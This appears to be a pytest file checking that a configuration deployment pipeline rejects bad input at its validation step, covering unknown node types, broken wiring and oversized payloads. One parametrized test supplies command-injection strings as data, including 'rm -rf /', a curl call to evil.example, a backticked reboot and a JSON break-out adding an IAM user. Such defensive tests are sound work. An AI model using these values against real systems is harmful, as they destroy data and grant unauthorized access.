"""Bad configuration from the app stops at `validate`: clear message, failure notified, nothing deployed."""

from __future__ import annotations

import pytest

from .conftest import flow_input


def assert_stopped_at_validate(run, receiver, state_dir, *fragments):
    assert not run.success
    assert run.executed == ["validate", "failure"], run.log
    assert run.error["step_id"] == "validate"
    errors = " ".join(e["message"] + " " + e["path"] for e in run.step("validate").result["errors"])
    for fragment in fragments:
        assert fragment in errors
    (message,) = receiver.wait_for(1)
    assert message["status"] == "failure" and message["details"]["step"] == "validate"
    assert "failed at step 'validate'" in message["text"]
    # nothing synthesized, planned or deployed
    assert not (state_dir / "runs").exists() and not (state_dir / "state").exists()


def test_unknown_node_kind(make_runner, receiver, state_dir, example_config):
    example_config["spec"]["nodes"][1]["type"] = "feature_store"
    run = make_runner().run(flow_input(example_config))
    assert_stopped_at_validate(run, receiver, state_dir, "feature_store", "spec.nodes[1].type")


def test_broken_wiring(make_runner, receiver, state_dir, example_config):
    example_config["spec"]["nodes"][3]["inputs"] = ["no_such_node"]
    run = make_runner().run(flow_input(example_config))
    assert_stopped_at_validate(run, receiver, state_dir, "no_such_node", "spec.nodes[3].inputs[0]")


def test_wrong_kind_wiring_names_both_ends(make_runner, receiver, state_dir, example_config):
    example_config["spec"]["nodes"][3]["inputs"] = ["clean"]  # an endpoint fed a dataset, not a model
    run = make_runner().run(flow_input(example_config))
    assert_stopped_at_validate(run, receiver, state_dir, "clean", "serve")


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", "churn; rm -rf /"),
        ("name", "$(curl evil.example)"),
        ("node_id", "x`reboot`"),
        ("node_id", 'a"}],"resource":{"aws_iam_user":{"x":{}}}'),
    ],
)
def test_injection_strings(make_runner, receiver, state_dir, example_config, field, value):
    if field == "name":
        example_config["metadata"]["name"] = value
    else:
        example_config["spec"]["nodes"][0]["id"] = value
    run = make_runner().run(flow_input(example_config))
    assert_stopped_at_validate(run, receiver, state_dir)


def test_oversized_payload(make_runner, receiver, state_dir, example_config):
    example_config["metadata"]["description"] = "x" * 2_000_000
    run = make_runner().run(flow_input(example_config))
    assert_stopped_at_validate(run, receiver, state_dir, "bytes")


def test_not_a_playbook_at_all(make_runner, receiver, state_dir):
    run = make_runner().run(flow_input({"hello": "world"}))
    assert_stopped_at_validate(run, receiver, state_dir)
